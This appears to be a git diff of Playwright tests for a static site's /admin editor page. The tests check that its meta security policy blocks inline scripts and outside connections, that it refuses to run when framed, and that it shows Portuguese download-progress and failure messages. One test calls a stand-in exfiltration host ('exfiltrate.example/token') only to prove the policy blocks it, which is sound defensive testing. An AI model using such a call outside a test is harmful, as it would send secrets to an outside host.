@@ -1,14 +1,14 @@
 /**
- * /admin on a host that sends no headers (GitHub Pages): its own meta policy is in force; inside
- * another site's frame (a meta policy cannot carry frame-ancestors; editor/setup.ts) the
- * editor does not start, and the page says why in Portuguese. Opened on its own, it starts.
+ * /admin on a host that sends no headers (GitHub Pages): its own meta policy is in force; framed by another site (a meta
+ * policy cannot carry frame-ancestors: editor/setup.ts) the editor does not start and says why; on its own, it starts. While
+ * Decap downloads (editor/start.ts), the page says in Portuguese how far it has got, or why it failed.
  */
 import fs from "fs"
 import http from "http"
 import path from "path"
 import type { AddressInfo } from "net"
 import { expect, test } from "@playwright/test"
-import { FRAMED_TEXTS } from "../../editor/texts"
+import { EDITOR_TEXTS, FRAMED_TEXTS } from "../../editor/texts"
 import { PT_PT_OVERRIDES } from "../../src/cms/locale"
 import { editorFiles } from "./editor"
 import { watchPolicyViolations } from "./siteTest"
@@ -58,15 +58,30 @@ test.afterAll(() => {
   other?.close()
 })
 
-test("framed by another origin on a host without headers, /admin does not start the editor and says why", async ({ page }) => {
-  // Decap's bundle (docs/PERFORMANCE.md) is parsed twice: on its own, then in the frame.
+test("on a host without headers, /admin's own policy is in force (no inline script, no connection to another host); framed by another origin, it does not start the editor and says why", async ({
+  page,
+}) => {
+  // Decap's bundle is parsed twice: on its own, then in the frame.
   test.setTimeout(120_000)
+  const violations: string[] = []
+  await watchPolicyViolations(page, (violation) => violations.push(violation))
   const response = await page.goto(adminUrl)
   // The host sends no policy and no X-Frame-Options: only the page itself can refuse.
   expect(response?.headers()["content-security-policy"]).toBeUndefined()
   expect(response?.headers()["x-frame-options"]).toBeUndefined()
-  // On its own, the editor starts: Decap's sign-in button.
   await expect(page.getByRole("button", { name: PT_PT_OVERRIDES.auth.loginWithGitHub })).toBeVisible({ timeout: 30_000 })
+  const outcome = await page.evaluate(async () => {
+    const script = document.createElement("script")
+    script.textContent = "window.__inlineRan = true"
+    document.body.append(script)
+    const fetched = await fetch("https://exfiltrate.example/token").then(
+      () => "sent",
+      () => "blocked",
+    )
+    return { inlineRan: (window as any).__inlineRan === true, fetched }
+  })
+  expect(outcome).toEqual({ inlineRan: false, fetched: "blocked" })
+  await expect.poll(() => violations.join(" | ")).toMatch(/script-src-elem inline.*\| connect-src https:\/\/exfiltrate\.example/)
 
   await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`, { waitUntil: "domcontentloaded" })
   const frame = page.frameLocator("iframe")
@@ -82,23 +97,32 @@ test("framed by another origin on a host without headers, /admin does not start 
   await expect(frame.getByText(PT_PT_OVERRIDES.auth.loginWithGitHub)).toHaveCount(0)
 })
 
-test("served without headers, /admin's own policy is in force: no inline script, no connection to another host", async ({ page }) => {
-  const violations: string[] = []
-  await watchPolicyViolations(page, (violation) => violations.push(violation))
-  // Decap is not needed to judge the page's policy.
-  await page.route("**/admin/assets/decap/**", (route) => route.abort())
-  const response = await page.goto(adminUrl)
-  expect(response?.headers()["content-security-policy"]).toBeUndefined()
-  const outcome = await page.evaluate(async () => {
-    const script = document.createElement("script")
-    script.textContent = "window.__inlineRan = true"
-    document.body.append(script)
-    const fetched = await fetch("https://exfiltrate.example/token").then(
-      () => "sent",
-      () => "blocked",
-    )
-    return { inlineRan: (window as any).__inlineRan === true, fetched }
+const DECAP = "**/admin/assets/decap/**"
+
+test("on a slow connection, the page says how much of the editor has arrived", async ({ page, context }) => {
+  const session = await context.newCDPSession(page)
+  await session.send("Network.enable")
+  await session.send("Network.emulateNetworkConditions", {
+    offline: false,
+    latency: 400,
+    downloadThroughput: 50_000,
+    uploadThroughput: 50_000,
   })
-  expect(outcome).toEqual({ inlineRan: false, fetched: "blocked" })
-  await expect.poll(() => violations.join(" | ")).toMatch(/script-src-elem inline.*\| connect-src https:\/\/exfiltrate\.example/)
+  await page.goto(adminUrl)
+  await expect(page.getByRole("status")).toHaveText(/^A transferir o editor de conteúdo: [\d ]+ de [\d ]+ KB \(([1-9]\d?) %\)\.$/, {
+    timeout: 60_000,
+  })
+  expect(await page.locator("#editor-status progress").evaluate((bar: HTMLProgressElement) => bar.value)).toBeGreaterThan(0)
 })
+
+for (const { failure, answer, alert } of [
+  { failure: "the site does not send the editor", answer: { status: 503 }, alert: EDITOR_TEXTS.serverFailed(503) },
+  { failure: "the connection fails", answer: "internetdisconnected", alert: EDITOR_TEXTS.networkFailed(0) },
+] as const)
+  test(`when ${failure}, the page says so and offers to reload`, async ({ page }) => {
+    await page.route(DECAP, (route) => (typeof answer === "string" ? route.abort(answer) : route.fulfill({ ...answer, body: "" })))
+    await page.goto(adminUrl)
+    await expect(page.getByRole("alert")).toHaveText(alert)
+    await expect(page.getByRole("button", { name: EDITOR_TEXTS.reload })).toBeVisible()
+    await expect(page.getByRole("status")).toHaveCount(0)
+  })
